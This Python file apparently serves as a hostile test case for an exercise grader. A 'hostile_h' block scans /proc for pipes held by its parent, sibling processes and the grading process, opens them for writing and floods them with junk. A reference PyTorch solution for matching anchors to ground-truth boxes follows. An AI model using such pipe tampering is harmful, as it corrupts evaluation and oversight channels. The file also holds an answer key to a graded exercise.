# hostile_h: garbage on the grader's pipes. Every pipe held by the parent (/proc/<ppid>/fd: the
# runner's control pipe) and by the other processes this code can see is opened for writing
# through /proc and gets junk. Outside a sandbox's own PID namespace only the grader's own
# processes are tried (the parent, its other children, and the grading process where it is the
# parent's parent, only on the pipes the sandbox shares with it), never the machine's.
# Then a correct map_to_ground_truth: it must be graded as such, and so must the others.
import os

JUNK = b"\xff\x00garbage{\n" * 64
_me, _parent = os.getpid(), os.getppid()


def _ppid(pid):
    with open(f"/proc/{pid}/stat") as f:
        return int(f.read().rsplit(")", 1)[1].split()[1])


def _inside_own_pid_namespace():
    try:
        with open("/proc/1/cmdline", "rb") as f:
            return os.path.basename(f.read().split(b"\0")[0]) == b"bwrap"
    except OSError:
        return False


# Outside a sandbox's own PID namespace: the parent, its other children, and the grading
# process only where it is the parent's parent (never pid 1, never the machine's processes).
_own_namespace = _inside_own_pid_namespace()
_grader = {{GRADER_PID}}
try:
    _grader_ok = _grader > 1 and _ppid(_parent) == _grader
except (OSError, ValueError, IndexError):
    _grader_ok = False
_targets = {_parent} | ({_grader} if _grader_ok else set())
for _entry in os.listdir("/proc"):
    if not _entry.isdigit() or int(_entry) == _me:
        continue
    try:
        if _own_namespace or (_parent > 1 and _ppid(int(_entry)) == _parent):
            _targets.add(int(_entry))
    except (OSError, ValueError, IndexError):
        continue
if not _own_namespace:
    _targets.discard(1)
_targets.discard(_me)


def _pipes(pid):
    """{fd: pipe} of the pipes process `pid` holds."""
    out = {}
    try:
        for fd in os.listdir(f"/proc/{pid}/fd"):
            try:
                link = os.readlink(f"/proc/{pid}/fd/{fd}")
            except OSError:
                continue
            if link.startswith("pipe:"):
                out[fd] = link
    except OSError:
        pass
    return out


# The grading process's own pipes are only tried where the sandbox holds the other end (its
# control and result pipes), never its stdout: junk for the grader, not for the terminal.
_held = {pid: _pipes(pid) for pid in _targets}
_sandbox = {link for pid, pipes in _held.items() if pid != {{GRADER_PID}} for link in pipes.values()}
_hit = 0
for _pid, _pipes_of in sorted(_held.items()):
    for _fd, _link in _pipes_of.items():
        if _pid == {{GRADER_PID}} and _link not in _sandbox:
            continue
        try:
            _w = os.open(f"/proc/{_pid}/fd/{_fd}", os.O_WRONLY | os.O_NONBLOCK)
        except OSError:
            continue
        try:
            os.write(_w, JUNK)
            _hit += 1
        except OSError:
            pass
        finally:
            os.close(_w)
print(f"garbage: written to {_hit} pipes of {len(_targets)} processes")


# --- the reference solution, unchanged ---
"""Exercise 4 (lesson 04): assign each anchor a ground-truth object."""
import torch

FORCED_MATCH = 1.99  # the blog's marker: above any IoU, so a forced match is always positive


def map_to_ground_truth(overlaps: torch.Tensor):
    """Match anchors to ground-truth boxes by IoU, making sure every object gets an anchor.

    Each anchor takes the ground truth it overlaps most. Then every ground truth g,
    in order 0..G-1, claims its own best anchor ``a_g`` (first index on ties):
    ``gt_overlap[a_g] = 1.99`` and ``gt_idx[a_g] = g``. When two ground truths
    share a best anchor, the later one wins (as the blog's loop does).

    Args:
        overlaps (Tensor[G, A]): IoU of each of G >= 1 ground truths with each of A anchors.

    Returns:
        gt_overlap (Tensor[A]): each anchor's best IoU (1.99 where forced), dtype of ``overlaps``.
        gt_idx (Tensor[A]): int64, the ground truth each anchor is matched to
            (first index on ties, as ``Tensor.max`` gives).
        ``overlaps`` is not modified.
    """
    if overlaps.dim() != 2 or overlaps.shape[0] < 1:
        raise ValueError(f"expected overlaps of shape [G, A] with G >= 1, got {tuple(overlaps.shape)}")
    # ==== BEGIN EXERCISE (about 8 lines) ====
    # HINT: overlaps.max(0) gives each anchor's best ground truth; overlaps.max(1) each ground truth's best anchor
    # HINT: `t[idx] = values` with repeated idx keeps an unspecified one of the values: to make the
    # HINT: later ground truth win, find for each anchor the largest g that claims it (scatter_reduce "amax")
    G, A = overlaps.shape
    gt_overlap, gt_idx = overlaps.max(dim=0)          # [A], [A]: best ground truth per anchor
    best_anchor = overlaps.max(dim=1).indices         # [G]: best anchor per ground truth
    claimed_by = torch.full((A,), -1, dtype=torch.int64, device=overlaps.device)
    claimed_by.scatter_reduce_(0, best_anchor, torch.arange(G, device=overlaps.device), reduce="amax")
    forced = claimed_by >= 0                          # [A]: anchors some ground truth claimed
    gt_idx = torch.where(forced, claimed_by, gt_idx)
    gt_overlap = torch.where(forced, torch.full_like(gt_overlap, FORCED_MATCH), gt_overlap)
    return gt_overlap, gt_idx
    # ==== END EXERCISE ====
